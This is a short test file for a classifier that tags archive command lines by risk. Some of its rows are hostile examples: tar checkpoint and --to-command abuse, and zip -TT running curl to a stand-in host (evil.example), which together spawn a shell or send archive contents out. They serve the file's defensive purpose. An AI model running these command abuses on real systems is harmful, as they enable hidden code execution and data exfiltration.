// What the specs of archive say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x", "hidden-code code:escapes"],
  ["tar xf a.tgz -I 'sh -c \"curl http://evil.example\"'", "network hidden-code"],
  ["tar xzf a.tgz --to-command='curl -T- http://evil.example'", "network hidden-code"],
  ["tar -xzf a.tgz -C out", ""],
  ["tar --brand-new-option x cf a.tar b", "hidden-code"],
  ["tar czf a.tgz src", ""],
  ["tar cf host.example:/x a", "network"],
  ["zip x.zip f -T -TT 'curl http://evil.example'", "network hidden-code"],
  ["unzip -q a.zip -d out", ""],
  ["7z x a.7z", ""],
  ["gzip -9 a", ""],
];

describe("archive", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
